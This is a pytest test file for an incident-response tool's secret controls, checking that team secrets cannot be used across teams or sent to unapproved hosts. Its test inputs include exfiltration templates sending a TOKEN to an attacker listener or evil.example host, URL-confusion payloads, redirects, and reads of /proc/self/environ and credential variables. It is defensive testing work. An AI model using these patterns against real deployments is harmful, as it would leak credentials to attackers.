"""Attempts to use another team's secret, or to send one to the wrong destination.

data's secret is TOKEN, for a server on this machine; web's people want it.
"""

import json
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text
from typer.testing import CliRunner

from cli.main import app as command_line
from tests.attacks.deployment import DATA_ADMIN, PLATFORM, WEB_ADMIN, WEB_OPS, Deployment
from tests.attacks.secrets_world import VALUE, Listener, everything, run, runbook
from tests.world import new_executor

# Whose it is


def test_a_webhook_of_another_team_sends_a_secret_to_its_own_server(
    armed: Deployment, theirs: Listener
) -> None:
    """red before: the header with data's secret arrived at the attacker's server."""
    workflow = {
        "kind": "workflow",
        "name": "thief",
        "team": "web",
        "trigger": {"on": "manual"},
        "actions": [
            {"id": "go", "type": "webhook", "url": theirs.url, "headers": {"X-A": "{{ secrets.TOKEN }}"}}
        ],
    }
    answer = armed.rest(WEB_ADMIN).post("/api/workflows", json=workflow)
    assert answer.status_code == 422
    assert "There is no secret TOKEN that definitions of team web may use." in answer.text

    harmless = workflow["actions"][0] | {"headers": {"X-A": "a"}}  # type: ignore[index]
    armed.apply(json.dumps(workflow | {"actions": [harmless]}))
    with armed.unit_of_work.begin() as work:
        work.session.execute(
            text("UPDATE workflows SET definition = CAST(:d AS json), in_force = CAST(:d AS json)"),
            {"d": json.dumps(workflow)},
        )
    incident = armed.incident("web")
    armed.rest(WEB_ADMIN).post("/api/workflows/thief/execute", json={"incident_id": incident.id})
    armed.work()
    assert theirs.heard == []
    assert "There is no secret TOKEN" in everything(armed)


@pytest.mark.parametrize("over", ["rest", "slack"])
def test_a_runbook_of_another_team_sends_a_secret_to_its_own_server(
    armed: Deployment, theirs: Listener, over: str
) -> None:
    """red before: the body with data's secret arrived."""
    step = run(
        armed, runbook({"url": theirs.url, "method": "POST", "body": "{{ secrets.TOKEN }}"}, "web"), over=over
    )
    assert theirs.heard == []
    assert step["status"] == "failed"
    assert "There is no secret TOKEN that definitions of team web may use." in step["error"]


def test_what_is_not_declared_is_nobodys_and_what_others_have_is_not_told(armed: Deployment) -> None:
    """red before: anybody used anything."""
    answers = []
    for name in ("TOKEN", "OTHER", "NOT_SET"):
        document = runbook({"url": "https://x.example", "headers": {"A": f"{{{{ secrets.{name} }}}}"}}, "web")
        answer = armed.rest(WEB_ADMIN).post("/api/runbooks", json=document)
        assert answer.status_code == 422
        answers.append(answer.json()["errors"][0] if "errors" in answer.json() else answer.json()["detail"])
    assert (
        len(
            {
                str(each).replace("TOKEN", "X").replace("OTHER", "X").replace("NOT_SET", "X")
                for each in answers
            }
        )
        == 1
    )
    step = run(armed, runbook({"url": "https://x.example/{{ secrets.OTHER }}"}))
    assert "There is no secret OTHER that definitions of team data may use." in step["error"]


def test_only_a_platform_admin_declares(armed: Deployment) -> None:
    """red before: there was nothing to declare."""
    document = {
        "kind": "secret", "name": "TOKEN", "source": {"env": "RUNBOOK_SECRET_TOKEN"},
        "teams": ["web"], "hosts": ["evil.example"],
    }  # fmt: skip
    for person in (DATA_ADMIN, WEB_ADMIN, WEB_OPS):
        rest = armed.rest(person)
        answers = [
            rest.post("/api/secrets", json=document),
            rest.put("/api/secrets/TOKEN", json=document),
            rest.delete("/api/secrets/TOKEN"),
            rest.get("/api/secrets"),
            rest.get("/api/secrets/TOKEN"),
            rest.get("/api/secrets/NOT_THERE"),
        ]
        assert [answer.status_code for answer in answers] == [403] * 6
    rest = armed.rest(PLATFORM)
    assert rest.post("/api/secrets", json=document).status_code == 409
    assert rest.put("/api/secrets/TOKEN", json=document).status_code == 200
    assert rest.get("/api/secrets/TOKEN").json()["secret"]["definition"]["teams"] == ["web"]
    assert rest.delete("/api/secrets/TOKEN").status_code == 204
    assert rest.get("/api/secrets").json() == {"secrets": []}
    actions = [entry["action"] for entry in rest.get("/api/audit").json()["audit"]]
    assert {"secret.created", "secret.changed", "secret.deleted"} <= set(actions)


def test_a_declaration_that_is_taken_away_holds_at_once(armed: Deployment, ours: Listener) -> None:
    document = runbook({"url": ours.url, "headers": {"A": "{{ secrets.TOKEN }}"}})
    assert run(armed, document)["status"] == "succeeded"
    assert f"A: {VALUE}" in ours.heard[0]
    armed.rest(PLATFORM).delete("/api/secrets/TOKEN")
    armed.executor = new_executor(armed.unit_of_work, secrets={"TOKEN": VALUE})
    assert run(armed, document)["status"] == "failed"


@pytest.mark.parametrize(
    "source",
    [
        {"env": "SLACK_SIGNING_SECRET"},
        {"env": "DATABASE_URL"},
        {"file": "/proc/self/environ"},
        {"file": "/dev/../proc/1/environ"},
    ],
)
def test_our_own_credentials_are_no_secrets_of_definitions(
    armed: Deployment, source: dict[str, str], tmp_path: Path
) -> None:
    """red before: not possible; it must not become so by a declaration."""
    document = {"kind": "secret", "name": "OWN", "source": source, "hosts": ["x.example"]}
    assert armed.rest(PLATFORM).post("/api/secrets", json=document).status_code == 422
    file = tmp_path / "own.yaml"
    file.write_text(json.dumps(document))
    assert CliRunner().invoke(command_line, ["validate", str(file)]).exit_code == 1


# Where it may go


CARRIERS: dict[str, dict[str, Any]] = {
    "header": {"headers": {"A": "{{ secrets.TOKEN }}"}},
    "query": {"query": {"a": "{{ secrets.TOKEN }}"}},
    "json": {"method": "POST", "json": {"a": ["{{ secrets.TOKEN }}"]}},
    "body": {"method": "POST", "body": "{{ secrets.TOKEN }}"},
    "url": {"url": "URL/?a={{ secrets.TOKEN }}"},
}


@pytest.mark.parametrize("over", ["rest", "slack"])
@pytest.mark.parametrize("carrier", CARRIERS)
def test_its_own_team_sends_it_where_it_may_not_go(
    armed: Deployment, ours: Listener, theirs: Listener, carrier: str, over: str
) -> None:
    """red before: it arrived."""
    step = {"url": theirs.url, **CARRIERS[carrier]}
    step["url"] = step["url"].replace("URL", theirs.url)
    done = run(armed, runbook(step), over=over)
    assert done["status"] == "failed"
    assert "the secret TOKEN may not be sent to its destination" in done["error"]
    assert theirs.heard == []
    step["url"] = step["url"].replace(theirs.url, ours.url)
    assert run(armed, runbook(step, name="right"))["status"] == "succeeded"
    assert "correct" in ours.heard[0]


def test_a_redirect_takes_it_elsewhere(armed: Deployment, ours: Listener, theirs: Listener) -> None:
    """red before: no; redirects were not followed. They must not be."""
    ours.status, ours.headers = 307, {"Location": theirs.url}
    run(armed, runbook({"url": ours.url, "headers": {"Authorization": "{{ secrets.TOKEN }}"}}))
    assert len(ours.heard) == 1
    assert theirs.heard == []


@pytest.mark.parametrize(
    "url",
    [
        "http://OURS@THEIRS/",
        "http://THEIRS/?x=http://OURS",
        "http://THEIRS#@OURS/",
        "http://THEIRS\\@OURS/",
        "http://127.0.0.1.OURS/",
        "http://{{ secrets.TOKEN }}.OURS.evil.invalid/",
    ],
)
def test_an_address_that_looks_like_the_right_one(
    armed: Deployment, ours: Listener, theirs: Listener, url: str
) -> None:
    """red before: it arrived, by whatever address."""
    url = url.replace("THEIRS", theirs.host).replace("OURS", ours.host)
    done = run(armed, runbook({"url": url, "headers": {"A": "{{ secrets.TOKEN }}"}}))
    assert theirs.heard == []
    assert done["status"] == "failed" or ours.heard, "who calls and who checks read the address alike"
    assert VALUE not in json.dumps(done)


def test_a_clients_secret_goes_to_another_authorization_server(
    armed: Deployment, ours: Listener, theirs: Listener
) -> None:
    """red before: it arrived there."""
    auth = {
        "type": "oauth2",
        "token_url": theirs.url,
        "client_id": "me",
        "client_secret": "{{ secrets.TOKEN }}",
    }
    workflow = {
        "kind": "workflow", "name": "thief", "team": "data", "trigger": {"on": "manual"},
        "actions": [{"id": "go", "type": "webhook", "url": ours.url, "auth": auth}],
    }  # fmt: skip
    armed.apply(json.dumps(workflow))
    incident = armed.incident("data")
    armed.rest(DATA_ADMIN).post("/api/workflows/thief/execute", json={"incident_id": incident.id})
    armed.work()
    assert theirs.heard == ours.heard == []
    assert "the secret TOKEN may not be sent to its destination" in everything(armed)


def test_a_tickets_token_goes_to_another_site(armed: Deployment, theirs: Listener) -> None:
    """red before: the token arrived at a "site" of the attacker's."""
    for action in (
        {"type": "jira", "site": theirs.url, "project": "X", "summary": "x"},
        {"type": "linear", "endpoint": theirs.url, "team": "x", "title": "x"},
    ):
        workflow = {
            "kind": "workflow", "name": action["type"], "team": "data", "trigger": {"on": "manual"},
            "actions": [{"id": "go", "token": "{{ secrets.TOKEN }}", **action}],
        }  # fmt: skip
        armed.apply(json.dumps(workflow))
        incident = armed.incident("data", slack_channel=f"C0{action['type'].upper()}")
        armed.rest(DATA_ADMIN).post(
            f"/api/workflows/{action['type']}/execute", json={"incident_id": incident.id}
        )
        armed.work()
    assert theirs.heard == []
    assert everything(armed).count("the secret TOKEN may not be sent to its destination") >= 2


def test_a_command_takes_what_is_only_for_hosts(armed: Deployment, tmp_path: Path) -> None:
    """red before: a command had any secret in its arguments, environment or input."""
    file = tmp_path / "stolen"
    step = {"type": "shell", "argv": ["sh", "-c", f"echo $A > {file}"], "env": {"A": "{{ secrets.TOKEN }}"}}
    done = run(armed, runbook(step))
    assert "A step of type shell may not use the secret TOKEN." in done["error"]
    assert not file.exists()
